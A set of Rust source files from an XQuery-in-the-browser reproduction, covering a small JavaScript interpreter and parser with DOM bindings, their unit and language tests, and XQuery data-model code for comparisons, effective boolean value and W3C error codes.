                let event_type = args.first().map(|v| v.to_js_string()).unwrap_or_default();
                let f = args.get(1).cloned().unwrap_or(Value::Undefined);
                self.pending_removals.push((n, event_type, f));
                Ok(Value::Undefined)
            }
            _ => err(format!("node.{method} is not supported")),
        }
    }

    fn find_first_named(&self, local: &str) -> Option<NodeRef> {
        let store = self.store.borrow();
        let doc = store.doc(self.doc);
        doc.descendants_or_self(doc.root())
            .into_iter()
            .find(|&n| {
                doc.element_name(n)
                    .map(|q| &*q.local == local)
                    .unwrap_or(false)
            })
            .map(|n| NodeRef::new(self.doc, n))
    }
}

fn node_arg(args: &[Value], i: usize) -> Result<NodeRef, JsError> {
    match args.get(i) {
        Some(Value::Node(n)) => Ok(*n),
        _ => err("expected a DOM node argument"),
    }
}

fn js_add(a: &Value, b: &Value) -> Value {
    match (a, b) {
        (Value::Str(_), _) | (_, Value::Str(_)) => {
            Value::Str(format!("{}{}", a.to_js_string(), b.to_js_string()))
        }
        _ => Value::Number(a.to_number() + b.to_number()),
    }
}

fn js_eq(a: &Value, b: &Value) -> bool {
    match (a, b) {
        (Value::Number(x), Value::Number(y)) => x == y,
        (Value::Str(x), Value::Str(y)) => x == y,
        (Value::Bool(x), Value::Bool(y)) => x == y,
        (Value::Null | Value::Undefined, Value::Null | Value::Undefined) => true,
        (Value::Node(x), Value::Node(y)) => x == y,
        (Value::Number(_), Value::Str(_)) | (Value::Str(_), Value::Number(_)) => {
            a.to_number() == b.to_number()
        }
        _ => false,
    }
}

fn js_cmp(a: &Value, b: &Value, test: impl Fn(std::cmp::Ordering) -> bool) -> Value {
    match (a, b) {
        (Value::Str(x), Value::Str(y)) => Value::Bool(test(x.cmp(y))),
        _ => match a.to_number().partial_cmp(&b.to_number()) {
            Some(o) => Value::Bool(test(o)),
            None => Value::Bool(false),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use xqib_dom::store::shared_store;

    fn engine_with(html: &str) -> JsEngine {
        let store = shared_store();
        let doc = xqib_dom::parse_document(html).unwrap();
        let id = store.borrow_mut().add_document(doc, None);
        JsEngine::new(store, id)
    }

    fn page(engine: &JsEngine) -> String {
        let store = engine.store.borrow();
        xqib_dom::serialize::serialize_document(store.doc(engine.doc))
    }

    #[test]
    fn arithmetic_and_strings() {
        let mut e = engine_with("<html/>");
        e.run("var x = 1 + 2 * 3; alert('' + x); alert('a' + 1);")
            .unwrap();
        assert_eq!(e.alerts, vec!["7", "a1"]);
    }

    #[test]
    fn functions_and_recursion() {
        let mut e = engine_with("<html/>");
        e.run(
            "function fact(n) { if (n <= 1) { return 1; } return n * fact(n - 1); }
             alert('' + fact(6));",
        )
        .unwrap();
        assert_eq!(e.alerts, vec!["720"]);
    }

    #[test]
    fn while_and_for_loops() {
        let mut e = engine_with("<html/>");
        e.run(
            "var s = 0; var i = 1;
             while (i <= 4) { s = s + i; i = i + 1; }
             for (var j = 0; j < 3; j = j + 1) { s += 10; }
             alert('' + s);",
        )
        .unwrap();
        assert_eq!(e.alerts, vec!["40"]);
    }

    #[test]
    fn arrays() {
        let mut e = engine_with("<html/>");
        e.run("var a = [1, 2]; a.push(3); a[0] = 9; alert('' + a.length + ':' + a[0] + a[2]);")
            .unwrap();
        assert_eq!(e.alerts, vec!["3:93"]);
    }

    #[test]
    fn dom_create_and_append() {
        let mut e = engine_with("<html><body/></html>");
        e.run(
            "var p = document.createElement('p');
             p.setAttribute('id', 'x');
             var t = document.createTextNode('hi');
             p.appendChild(t);
             document.body.appendChild(p);",
        )
        .unwrap();
        assert!(page(&e).contains("<p id=\"x\">hi</p>"));
    }

    #[test]
    fn get_element_by_id_and_attributes() {
        let mut e = engine_with(r#"<html><body><div id="d" class="c"/></body></html>"#);
        e.run(
            "var d = document.getElementById('d');
             alert(d.getAttribute('class'));
             alert('' + (document.getElementById('nope') == null));",
        )
        .unwrap();
        assert_eq!(e.alerts, vec!["c", "true"]);
    }

    #[test]
    fn embedded_xpath_snapshot() {
        // §2.2's document.evaluate example shape
        let mut e =
            engine_with(r#"<html><body><div>I love XQuery</div><div>meh</div></body></html>"#);
        e.run(
            "var allDivs = document.evaluate(\"//div[contains(., 'love')]\", document, null, 7, null);
             if (allDivs.snapshotLength > 0) {
                var newElement = document.createElement('img');
                newElement.setAttribute('src', 'http://x/heart.gif');
                document.body.insertBefore(newElement, document.body.firstChild);
             }",
        )
        .unwrap();
        let p = page(&e);
        assert!(
            p.starts_with("<html><body><img src=\"http://x/heart.gif\"/>"),
            "{p}"
        );
    }

    #[test]
    fn listener_registration_and_dispatch() {
        let mut e = engine_with(r#"<html><body><input id="b"/></body></html>"#);
        e.run(
            "var hits = 0;
             function onClick(ev) { hits = hits + 1; alert(ev.type + '@' + ev.target.getAttribute('id')); }
             document.getElementById('b').addEventListener('onclick', onClick, false);",
        )
        .unwrap();
        let regs = e.take_registrations();
        assert_eq!(regs.len(), 1);
        let (target, ty, f) = &regs[0];
        assert_eq!(ty, "onclick");
        e.dispatch_to(f, "onclick", *target, 1).unwrap();
        assert_eq!(e.alerts, vec!["onclick@b"]);
    }

    #[test]
    fn window_status_and_navigator() {
        let mut e = engine_with("<html/>");
        e.run(
            "self.status = 'Welcome';
             alert(navigator.appName);
             alert('' + screen.height);",
        )
        .unwrap();
        assert_eq!(e.window_status, "Welcome");
        assert_eq!(e.alerts, vec!["Microsoft Internet Explorer", "1024"]);
    }

    #[test]
    fn string_methods() {
        let mut e = engine_with("<html/>");
        e.run(
            "var s = 'Hello World';
             alert('' + s.indexOf('World'));
             alert(s.substring(0, 5).toUpperCase());",
        )
        .unwrap();
        assert_eq!(e.alerts, vec!["6", "HELLO"]);
    }

    #[test]
    fn undefined_variable_is_error() {
        let mut e = engine_with("<html/>");
        assert!(e.run("alert(nosuch);").is_err());
    }

    #[test]
    fn shopping_cart_js_listing_runs() {
        // the §6.3 JS listing (client side)
        let mut e = engine_with(
            r#"<html><body><div>Shopping cart</div><div id="shoppingcart"/>
            <div>Laptop<input type="button" value="Buy" id="Laptop"/></div></body></html>"#,
        );
        e.run(xqib_core_free_sample()).unwrap();
        // simulate the click: grab the buy function and dispatch
        let buy = e.global("buy").cloned().unwrap();
        let button = {
            let store = e.store.borrow();
            let doc = store.doc(e.doc);
            let n = doc
                .descendants_or_self(doc.root())
                .into_iter()
                .find(|&n| doc.get_attribute(n, None, "id") == Some("Laptop"))
                .unwrap();
            NodeRef::new(e.doc, n)
        };
        e.dispatch_to(&buy, "onclick", button, 1).unwrap();
        assert!(page(&e).contains("<div id=\"shoppingcart\"><p>Laptop</p></div>"));
    }

    /// local copy of the §6.3 JS listing to avoid a dev-dependency cycle
    fn xqib_core_free_sample() -> &'static str {
        r#"function buy(e) {
          var newElement = document.createElement("p");
          var elementText = document.createTextNode(e.target.getAttribute("id"));
          newElement.appendChild(elementText);
          var res = document.evaluate("//div[@id='shoppingcart']", document, null, 7, null);
          res.snapshotItem(0).insertBefore(newElement, res.snapshotItem(0).firstChild);
        }"#
    }
}
