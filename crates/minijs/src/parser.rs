//! Recursive-descent parser for the JavaScript subset.

use std::rc::Rc;

use crate::ast::*;
use crate::lexer::{tokenize, JsTok};

pub struct JsParser {
    toks: Vec<JsTok>,
    pos: usize,
}

/// Parses a program.
pub fn parse_program(src: &str) -> Result<JsProgram, String> {
    let toks = tokenize(src)?;
    let mut p = JsParser { toks, pos: 0 };
    let mut stmts = Vec::new();
    while p.cur() != &JsTok::Eof {
        stmts.push(p.parse_stmt()?);
    }
    Ok(JsProgram { stmts })
}

impl JsParser {
    fn cur(&self) -> &JsTok {
        &self.toks[self.pos]
    }

    fn bump(&mut self) -> JsTok {
        let t = self.toks[self.pos].clone();
        if self.pos + 1 < self.toks.len() {
            self.pos += 1;
        }
        t
    }

    fn expect(&mut self, t: &JsTok) -> Result<(), String> {
        if self.cur() == t {
            self.bump();
            Ok(())
        } else {
            Err(format!("expected {t}, found {}", self.cur()))
        }
    }

    fn at_ident(&self, kw: &str) -> bool {
        matches!(self.cur(), JsTok::Ident(n) if n == kw)
    }

    fn eat_semi(&mut self) {
        while self.cur() == &JsTok::Semi {
            self.bump();
        }
    }

    fn parse_stmt(&mut self) -> Result<JsStmt, String> {
        if self.at_ident("var") {
            self.bump();
            let name = self.ident()?;
            let init = if self.cur() == &JsTok::Assign {
                self.bump();
                Some(self.parse_expr()?)
            } else {
                None
            };
            self.eat_semi();
            return Ok(JsStmt::VarDecl(name, init));
        }
        if self.at_ident("function") {
            self.bump();
            let name = self.ident()?;
            let f = self.parse_function_tail(Some(name.clone()))?;
            return Ok(JsStmt::FunctionDecl(name, Rc::new(f)));
        }
        if self.at_ident("if") {
            self.bump();
            self.expect(&JsTok::LParen)?;
            let cond = self.parse_expr()?;
            self.expect(&JsTok::RParen)?;
            let then = self.parse_block_or_stmt()?;
            let els = if self.at_ident("else") {
                self.bump();
                self.parse_block_or_stmt()?
            } else {
                Vec::new()
            };
            return Ok(JsStmt::If(cond, then, els));
        }
        if self.at_ident("while") {
            self.bump();
            self.expect(&JsTok::LParen)?;
            let cond = self.parse_expr()?;
            self.expect(&JsTok::RParen)?;
            let body = self.parse_block_or_stmt()?;
            return Ok(JsStmt::While(cond, body));
        }
        if self.at_ident("for") {
            self.bump();
            self.expect(&JsTok::LParen)?;
            let init = if self.cur() == &JsTok::Semi {
                None
            } else {
                Some(Box::new(self.parse_stmt_no_semi()?))
            };
            self.expect(&JsTok::Semi)?;
            let cond = if self.cur() == &JsTok::Semi {
                None
            } else {
                Some(self.parse_expr()?)
            };
            self.expect(&JsTok::Semi)?;
            let step = if self.cur() == &JsTok::RParen {
                None
            } else {
                Some(self.parse_expr()?)
            };
            self.expect(&JsTok::RParen)?;
            let body = self.parse_block_or_stmt()?;
            return Ok(JsStmt::For(init, cond, step, body));
        }
        if self.at_ident("return") {
            self.bump();
            let value = if self.cur() == &JsTok::Semi
                || self.cur() == &JsTok::RBrace
                || self.cur() == &JsTok::Eof
            {
                None
            } else {
                Some(self.parse_expr()?)
            };
            self.eat_semi();
            return Ok(JsStmt::Return(value));
        }
        let e = self.parse_expr()?;
        self.eat_semi();
        Ok(JsStmt::Expr(e))
    }

    /// Statement without trailing semicolon handling (for-loop init).
    fn parse_stmt_no_semi(&mut self) -> Result<JsStmt, String> {
        if self.at_ident("var") {
            self.bump();
            let name = self.ident()?;
            let init = if self.cur() == &JsTok::Assign {
                self.bump();
                Some(self.parse_expr()?)
            } else {
                None
            };
            Ok(JsStmt::VarDecl(name, init))
        } else {
            Ok(JsStmt::Expr(self.parse_expr()?))
        }
    }

    fn parse_block_or_stmt(&mut self) -> Result<Vec<JsStmt>, String> {
        if self.cur() == &JsTok::LBrace {
            self.bump();
            let mut stmts = Vec::new();
            while self.cur() != &JsTok::RBrace {
                if self.cur() == &JsTok::Eof {
                    return Err("unterminated block".to_string());
                }
                stmts.push(self.parse_stmt()?);
            }
            self.bump();
            Ok(stmts)
        } else {
            Ok(vec![self.parse_stmt()?])
        }
    }

    fn parse_function_tail(&mut self, name: Option<String>) -> Result<JsFunction, String> {
        self.expect(&JsTok::LParen)?;
        let mut params = Vec::new();
        while self.cur() != &JsTok::RParen {
            params.push(self.ident()?);
            if self.cur() == &JsTok::Comma {
                self.bump();
            }
        }
        self.expect(&JsTok::RParen)?;
        self.expect(&JsTok::LBrace)?;
        let mut body = Vec::new();
        while self.cur() != &JsTok::RBrace {
            if self.cur() == &JsTok::Eof {
                return Err("unterminated function body".to_string());
            }
            body.push(self.parse_stmt()?);
        }
        self.bump();
        Ok(JsFunction { name, params, body })
    }

    fn ident(&mut self) -> Result<String, String> {
        match self.bump() {
            JsTok::Ident(n) => Ok(n),
            other => Err(format!("expected identifier, found {other}")),
        }
    }

    // expressions, by precedence
    fn parse_expr(&mut self) -> Result<JsExpr, String> {
        self.parse_assign()
    }

    fn parse_assign(&mut self) -> Result<JsExpr, String> {
        let left = self.parse_or()?;
        match self.cur() {
            JsTok::Assign => {
                self.bump();
                let value = self.parse_assign()?;
                Ok(JsExpr::Assign(Box::new(left), Box::new(value)))
            }
            JsTok::PlusAssign => {
                self.bump();
                let value = self.parse_assign()?;
                Ok(JsExpr::AddAssign(Box::new(left), Box::new(value)))
            }
            _ => Ok(left),
        }
    }

    fn parse_or(&mut self) -> Result<JsExpr, String> {
        let mut left = self.parse_and()?;
        while self.cur() == &JsTok::OrOr {
            self.bump();
            let right = self.parse_and()?;
            left = JsExpr::Binary(BinOp::Or, Box::new(left), Box::new(right));
        }
        Ok(left)
    }

    fn parse_and(&mut self) -> Result<JsExpr, String> {
        let mut left = self.parse_cmp()?;
        while self.cur() == &JsTok::AndAnd {
            self.bump();
            let right = self.parse_cmp()?;
            left = JsExpr::Binary(BinOp::And, Box::new(left), Box::new(right));
        }
        Ok(left)
    }

    fn parse_cmp(&mut self) -> Result<JsExpr, String> {
        let left = self.parse_additive()?;
        let op = match self.cur() {
            JsTok::Eq | JsTok::StrictEq => Some(BinOp::Eq),
            JsTok::NotEq | JsTok::StrictNotEq => Some(BinOp::NotEq),
            JsTok::Lt => Some(BinOp::Lt),
            JsTok::LtEq => Some(BinOp::LtEq),
            JsTok::Gt => Some(BinOp::Gt),
            JsTok::GtEq => Some(BinOp::GtEq),
            _ => None,
        };
        if let Some(op) = op {
            self.bump();
            let right = self.parse_additive()?;
            return Ok(JsExpr::Binary(op, Box::new(left), Box::new(right)));
        }
        Ok(left)
    }

    fn parse_additive(&mut self) -> Result<JsExpr, String> {
        let mut left = self.parse_multiplicative()?;
        loop {
            let op = match self.cur() {
                JsTok::Plus => BinOp::Add,
                JsTok::Minus => BinOp::Sub,
                _ => break,
            };
            self.bump();
            let right = self.parse_multiplicative()?;
            left = JsExpr::Binary(op, Box::new(left), Box::new(right));
        }
        Ok(left)
    }

    fn parse_multiplicative(&mut self) -> Result<JsExpr, String> {
        let mut left = self.parse_unary()?;
        loop {
            let op = match self.cur() {
                JsTok::Star => BinOp::Mul,
                JsTok::Slash => BinOp::Div,
                JsTok::Percent => BinOp::Mod,
                _ => break,
            };
            self.bump();
            let right = self.parse_unary()?;
            left = JsExpr::Binary(op, Box::new(left), Box::new(right));
        }
        Ok(left)
    }

    fn parse_unary(&mut self) -> Result<JsExpr, String> {
        match self.cur() {
            JsTok::Not => {
                self.bump();
                Ok(JsExpr::Not(Box::new(self.parse_unary()?)))
            }
            JsTok::Minus => {
                self.bump();
                Ok(JsExpr::Neg(Box::new(self.parse_unary()?)))
            }
            _ => self.parse_postfix(),
        }
    }

    fn parse_postfix(&mut self) -> Result<JsExpr, String> {
        let mut e = self.parse_primary()?;
        loop {
            match self.cur() {
                JsTok::Dot => {
                    self.bump();
                    let name = self.ident()?;
                    e = JsExpr::Member(Box::new(e), name);
                }
                JsTok::LBracket => {
                    self.bump();
                    let idx = self.parse_expr()?;
                    self.expect(&JsTok::RBracket)?;
                    e = JsExpr::Index(Box::new(e), Box::new(idx));
                }
                JsTok::LParen => {
                    self.bump();
                    let mut args = Vec::new();
                    while self.cur() != &JsTok::RParen {
                        args.push(self.parse_expr()?);
                        if self.cur() == &JsTok::Comma {
                            self.bump();
                        }
                    }
                    self.bump();
                    e = JsExpr::Call(Box::new(e), args);
                }
                _ => break,
            }
        }
        Ok(e)
    }

    fn parse_primary(&mut self) -> Result<JsExpr, String> {
        match self.bump() {
            JsTok::Number(n) => Ok(JsExpr::Number(n)),
            JsTok::Str(s) => Ok(JsExpr::Str(s)),
            JsTok::Ident(n) => match n.as_str() {
                "true" => Ok(JsExpr::Bool(true)),
                "false" => Ok(JsExpr::Bool(false)),
                "null" => Ok(JsExpr::Null),
                "undefined" => Ok(JsExpr::Undefined),
                "function" => {
                    let f = self.parse_function_tail(None)?;
                    Ok(JsExpr::FunctionLit(Rc::new(f)))
                }
                _ => Ok(JsExpr::Ident(n)),
            },
            JsTok::LParen => {
                let e = self.parse_expr()?;
                self.expect(&JsTok::RParen)?;
                Ok(e)
            }
            JsTok::LBracket => {
                let mut items = Vec::new();
                while self.cur() != &JsTok::RBracket {
                    items.push(self.parse_expr()?);
                    if self.cur() == &JsTok::Comma {
                        self.bump();
                    }
                }
                self.bump();
                Ok(JsExpr::Array(items))
            }
            other => Err(format!("unexpected token {other}")),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_var_and_function() {
        let p = parse_program("var x = 1; function f(a, b) { return a + b; }").unwrap();
        assert_eq!(p.stmts.len(), 2);
        assert!(matches!(&p.stmts[0], JsStmt::VarDecl(n, Some(_)) if n == "x"));
        assert!(matches!(&p.stmts[1], JsStmt::FunctionDecl(n, _) if n == "f"));
    }

    #[test]
    fn parse_control_flow() {
        let p = parse_program(
            "if (x < 3) { y = 1; } else y = 2; while (x > 0) { x = x - 1; } \
             for (var i = 0; i < 5; i = i + 1) { s = s + i; }",
        )
        .unwrap();
        assert_eq!(p.stmts.len(), 3);
    }

    #[test]
    fn parse_member_chain_and_calls() {
        let p = parse_program("document.body.appendChild(el); a[0].x = 1;").unwrap();
        assert_eq!(p.stmts.len(), 2);
    }

    #[test]
    fn parse_function_literal() {
        let p = parse_program("el.addEventListener('click', function (e) { return; }, false);")
            .unwrap();
        assert_eq!(p.stmts.len(), 1);
    }

    #[test]
    fn errors_reported() {
        assert!(parse_program("var = ;").is_err());
        assert!(parse_program("function f( {").is_err());
        assert!(parse_program("if (").is_err());
    }
}
