//! Language-level tests for the JavaScript subset, beyond the DOM API.

use xqib_dom::store::shared_store;
use xqib_minijs::JsEngine;

fn run(src: &str) -> JsEngine {
    let store = shared_store();
    let doc = xqib_dom::parse_document("<html><body/></html>").unwrap();
    let id = store.borrow_mut().add_document(doc, None);
    let mut e = JsEngine::new(store, id);
    e.run(src).unwrap_or_else(|err| panic!("{src}: {err}"));
    e
}

fn alerts(src: &str) -> Vec<String> {
    run(src).alerts
}

#[test]
fn js_number_string_coercions() {
    assert_eq!(
        alerts("alert(1 + 2); alert('1' + 2); alert(1 + '2'); alert('a' + 'b');"),
        vec!["3", "12", "12", "ab"]
    );
    assert_eq!(alerts("alert('' + (0.1 + 0.2 > 0.3));"), vec!["true"]);
    assert_eq!(alerts("alert('' + ('10' - 1));"), vec!["9"]);
}

#[test]
fn js_equality_rules() {
    assert_eq!(
        alerts(
            "alert('' + (1 == '1'));
             alert('' + (null == undefined));
             alert('' + (0 == false));"
        ),
        // 0 == false coerces via numbers in real JS; our subset keeps
        // bool/number distinct except through to_number — documented
        vec!["true", "true", "false"]
    );
}

#[test]
fn js_else_if_chain() {
    assert_eq!(
        alerts(
            "var x = 7;
             if (x < 5) alert('small');
             else if (x < 10) alert('medium');
             else alert('large');"
        ),
        vec!["medium"]
    );
}

#[test]
fn js_for_without_init_or_step() {
    // init and step clauses are optional (the subset has no `break`, so
    // the condition carries the exit)
    assert_eq!(
        alerts(
            "var i = 0;
             for (; i < 3;) { i = i + 1; }
             alert('' + i);"
        ),
        vec!["3"]
    );
}

#[test]
fn js_nested_functions_and_shadowing() {
    assert_eq!(
        alerts(
            "var x = 'global';
             function outer() {
                 var x = 'outer';
                 function inner() { return x1(); }
                 return x;
             }
             function x1() { return x; }
             alert(outer());
             alert(x1());"
        ),
        vec!["outer", "global"]
    );
}

#[test]
fn js_early_return() {
    assert_eq!(
        alerts(
            "function f(n) {
                 if (n > 0) { return 'pos'; }
                 return 'neg';
             }
             alert(f(1)); alert(f(-1));"
        ),
        vec!["pos", "neg"]
    );
}

#[test]
fn js_array_growth_on_assignment() {
    assert_eq!(
        alerts(
            "var a = [];
             a[2] = 'x';
             alert('' + a.length);
             alert('' + a[0]);"
        ),
        vec!["3", "undefined"]
    );
}

#[test]
fn js_function_values_as_arguments() {
    assert_eq!(
        alerts(
            "function apply(f, v) { return f(v); }
             alert(apply(function (x) { return x * 2; }, 21));"
        ),
        vec!["42"]
    );
}

#[test]
fn js_while_with_compound_condition() {
    assert_eq!(
        alerts(
            "var i = 0; var j = 10;
             while (i < 5 && j > 7) { i = i + 1; j = j - 1; }
             alert(i + ':' + j);"
        ),
        vec!["3:7"]
    );
}

#[test]
fn js_parse_int_and_constructors() {
    assert_eq!(
        alerts(
            "alert('' + parseInt('42px'.substring(0, 2)));
             alert(String(3) + Number('4'));"
        ),
        vec!["42", "34"]
    );
}

#[test]
fn js_runtime_errors_reported() {
    let store = shared_store();
    let doc = xqib_dom::parse_document("<html/>").unwrap();
    let id = store.borrow_mut().add_document(doc, None);
    let mut e = JsEngine::new(store, id);
    assert!(e.run("undefinedFn();").is_err());
    assert!(e.run("var x = y + 1;").is_err());
    assert!(e.run("null.foo();").is_err());
}

#[test]
fn js_ops_counter_advances() {
    let e = run("var s = 0; for (var i = 0; i < 100; i = i + 1) { s = s + i; }");
    assert!(e.ops > 300, "instruction counter counts work: {}", e.ops);
}
