//! Property-based tests for the data model: comparison laws, cast
//! round-trips, EBV consistency.

use proptest::prelude::*;

use xqib_xdm::{
    compare_atomics, effective_boolean_value, value_compare, Atomic, CompOp, Item, TypeName,
};

proptest! {
    #[test]
    fn numeric_comparison_total_order(a in -1000i64..1000, b in -1000i64..1000) {
        let x = Atomic::Integer(a);
        let y = Atomic::Integer(b);
        let ord = compare_atomics(&x, &y).unwrap();
        prop_assert_eq!(ord, a.cmp(&b));
        // antisymmetry
        let rev = compare_atomics(&y, &x).unwrap();
        prop_assert_eq!(rev, b.cmp(&a));
    }

    #[test]
    fn eq_and_ne_partition(a in -50i64..50, b in -50i64..50) {
        let x = Atomic::Integer(a);
        let y = Atomic::Integer(b);
        let eq = value_compare(CompOp::Eq, &x, &y).unwrap();
        let ne = value_compare(CompOp::Ne, &x, &y).unwrap();
        prop_assert_ne!(eq, ne);
        prop_assert_eq!(eq, a == b);
    }

    #[test]
    fn le_is_lt_or_eq(a in -50i64..50, b in -50i64..50) {
        let x = Atomic::Integer(a);
        let y = Atomic::Integer(b);
        let le = value_compare(CompOp::Le, &x, &y).unwrap();
        let lt = value_compare(CompOp::Lt, &x, &y).unwrap();
        let eq = value_compare(CompOp::Eq, &x, &y).unwrap();
        prop_assert_eq!(le, lt || eq);
    }

    #[test]
    fn integer_string_cast_roundtrip(n in any::<i64>()) {
        let a = Atomic::Integer(n);
        let s = a.cast_to(TypeName::String).unwrap();
        let back = s.cast_to(TypeName::Integer).unwrap();
        prop_assert_eq!(back.string_value(), n.to_string());
    }

    #[test]
    fn boolean_cast_roundtrip(b in any::<bool>()) {
        let a = Atomic::Boolean(b);
        let s = a.cast_to(TypeName::String).unwrap();
        let back = s.cast_to(TypeName::Boolean).unwrap();
        prop_assert!(matches!(back, Atomic::Boolean(x) if x == b));
    }

    #[test]
    fn untyped_and_string_compare_equal(s in "[a-zA-Z0-9 ]{0,20}") {
        let u = Atomic::untyped(&s);
        let t = Atomic::str(&s);
        prop_assert!(value_compare(CompOp::Eq, &u, &t).unwrap());
    }

    #[test]
    fn ebv_of_integer_is_nonzero(n in any::<i64>()) {
        let v = vec![Item::integer(n)];
        prop_assert_eq!(effective_boolean_value(&v).unwrap(), n != 0);
    }

    #[test]
    fn ebv_of_string_is_nonempty(s in "[ -~]{0,20}") {
        let v = vec![Item::string(&s)];
        prop_assert_eq!(effective_boolean_value(&v).unwrap(), !s.is_empty());
    }

    #[test]
    fn double_formatting_roundtrips_integers(n in -1_000_000i64..1_000_000) {
        let a = Atomic::Double(n as f64);
        prop_assert_eq!(a.string_value(), n.to_string());
    }

    #[test]
    fn duration_roundtrip(months in 0i64..500, millis in 0i64..10_000_000) {
        // formatting quantises to whole milliseconds → parse(format) fixpoint
        let d = xqib_xdm::Duration { months, millis: millis * 1000 };
        let s = d.to_string();
        let back = xqib_xdm::Duration::parse(&s).unwrap();
        // same-flavour values compare equal when either component is zero;
        // mixed values at least roundtrip exactly
        prop_assert_eq!(back.months, d.months);
        prop_assert_eq!(back.millis, d.millis);
    }
}
