//! W3C error codes for XQuery/XPath, raised as [`XdmError`].
//!
//! The engine uses the standard `err:` codes: `XPST….` static errors,
//! `XPDY…`/`XQDY…` dynamic errors, `XPTY…`/`XQTY…` type errors, `FO…`
//! function/operator errors, `XUDY…`/`XUST…` update errors, and `XQSE…`
//! for the scripting extension. Browser-specific failures use the `XQIB…`
//! range (e.g. a blocked `fn:doc`, §4.2.1).

use std::fmt;

/// An XQuery error: a W3C code plus a human-readable message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct XdmError {
    pub code: String,
    pub message: String,
}

impl XdmError {
    pub fn new(code: &str, message: impl Into<String>) -> Self {
        XdmError {
            code: code.to_string(),
            message: message.into(),
        }
    }

    /// XPTY0004 — type error during evaluation.
    pub fn type_error(message: impl Into<String>) -> Self {
        Self::new("XPTY0004", message)
    }

    /// XPDY0002 — undefined context/variable component.
    pub fn undefined(message: impl Into<String>) -> Self {
        Self::new("XPDY0002", message)
    }

    /// FORG0001 — invalid value for cast.
    pub fn invalid_cast(message: impl Into<String>) -> Self {
        Self::new("FORG0001", message)
    }

    /// FOAR0001 — division by zero.
    pub fn div_by_zero() -> Self {
        Self::new("FOAR0001", "division by zero")
    }

    /// FORG0006 — invalid argument type (e.g. no effective boolean value).
    pub fn no_ebv(message: impl Into<String>) -> Self {
        Self::new("FORG0006", message)
    }

    /// XPST0017 — unknown function.
    pub fn unknown_function(name: &str, arity: usize) -> Self {
        Self::new(
            "XPST0017",
            format!("no function named {name}#{arity} in the static context"),
        )
    }

    /// XPST0008 — undefined variable or other name.
    pub fn unknown_name(message: impl Into<String>) -> Self {
        Self::new("XPST0008", message)
    }

    /// XQIB0001 — operation blocked by the browser security profile
    /// (the paper proposes blocking `fn:doc`/`fn:put` in the browser).
    pub fn browser_blocked(message: impl Into<String>) -> Self {
        Self::new("XQIB0001", message)
    }
}

impl fmt::Display for XdmError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "[{}] {}", self.code, self.message)
    }
}

impl std::error::Error for XdmError {}

/// Result alias used throughout the engine.
pub type XdmResult<T> = Result<T, XdmError>;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_includes_code() {
        let e = XdmError::type_error("bad operand");
        assert_eq!(e.to_string(), "[XPTY0004] bad operand");
    }

    #[test]
    fn helpers_use_standard_codes() {
        assert_eq!(XdmError::div_by_zero().code, "FOAR0001");
        assert_eq!(XdmError::undefined("x").code, "XPDY0002");
        assert_eq!(XdmError::unknown_function("fn:nope", 2).code, "XPST0017");
        assert_eq!(XdmError::browser_blocked("doc").code, "XQIB0001");
    }
}
