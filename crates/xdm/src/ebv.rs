//! Effective boolean value (XPath 2.0 §2.4.3), used by `if`, `where`,
//! predicates, quantifiers and the logical operators.

use crate::atomic::Atomic;
use crate::error::{XdmError, XdmResult};
use crate::item::Item;

/// Computes the effective boolean value of a sequence.
pub fn effective_boolean_value(seq: &[Item]) -> XdmResult<bool> {
    match seq {
        [] => Ok(false),
        // a sequence whose first item is a node is true
        [Item::Node(_), ..] => Ok(true),
        [Item::Atomic(a)] => match a {
            Atomic::Boolean(b) => Ok(*b),
            Atomic::String(s) | Atomic::Untyped(s) | Atomic::AnyUri(s) => Ok(!s.is_empty()),
            Atomic::Integer(i) => Ok(*i != 0),
            Atomic::Decimal(d) | Atomic::Double(d) => Ok(*d != 0.0 && !d.is_nan()),
            other => Err(XdmError::no_ebv(format!(
                "no effective boolean value for {}",
                other.type_name()
            ))),
        },
        _ => Err(XdmError::no_ebv(
            "no effective boolean value for a multi-item atomic sequence",
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use xqib_dom::{DocId, NodeId, NodeRef};

    fn node_item() -> Item {
        Item::Node(NodeRef::new(DocId(0), NodeId(0)))
    }

    #[test]
    fn empty_is_false() {
        assert!(!effective_boolean_value(&[]).unwrap());
    }

    #[test]
    fn node_leading_is_true() {
        assert!(effective_boolean_value(&[node_item()]).unwrap());
        assert!(effective_boolean_value(&[node_item(), Item::integer(0)]).unwrap());
    }

    #[test]
    fn singleton_atomics() {
        assert!(effective_boolean_value(&[Item::boolean(true)]).unwrap());
        assert!(!effective_boolean_value(&[Item::boolean(false)]).unwrap());
        assert!(effective_boolean_value(&[Item::string("x")]).unwrap());
        assert!(!effective_boolean_value(&[Item::string("")]).unwrap());
        assert!(effective_boolean_value(&[Item::integer(5)]).unwrap());
        assert!(!effective_boolean_value(&[Item::integer(0)]).unwrap());
        assert!(!effective_boolean_value(&[Item::double(f64::NAN)]).unwrap());
        assert!(effective_boolean_value(&[Item::double(0.1)]).unwrap());
    }

    #[test]
    fn multi_atomic_is_error() {
        let err = effective_boolean_value(&[Item::integer(1), Item::integer(2)]).unwrap_err();
        assert_eq!(err.code, "FORG0006");
    }

    #[test]
    fn date_has_no_ebv() {
        use crate::datetime::Date;
        let d = Item::Atomic(Atomic::Date(Date::parse("2009-04-20").unwrap()));
        assert_eq!(effective_boolean_value(&[d]).unwrap_err().code, "FORG0006");
    }
}
