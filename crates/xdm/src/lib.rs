//! # xqib-xdm
//!
//! The **XQuery 1.0 and XPath 2.0 Data Model (XDM)** for the XQIB
//! reproduction: items, atomic values, sequences, the effective boolean
//! value, atomization, value/general comparisons and the W3C error codes.
//!
//! The model is the *untyped* instantiation the paper relies on for web
//! pages (§3.1: "XQuery can natively process (untyped) Web pages"): nodes
//! atomize to `xs:untypedAtomic`, and the usual promotion rules apply in
//! comparisons and arithmetic.
//!
//! Simplifications (documented per DESIGN.md):
//! * `xs:decimal` is carried as `f64` (sufficient for browser workloads;
//!   integers keep a dedicated `i64` representation);
//! * date/time values support the component set exercised by the paper's
//!   function library usage, not the full ISO 8601 surface.

pub mod atomic;
pub mod compare;
pub mod datetime;
pub mod ebv;
pub mod error;
pub mod item;
pub mod stream;
pub mod types;

pub use atomic::Atomic;
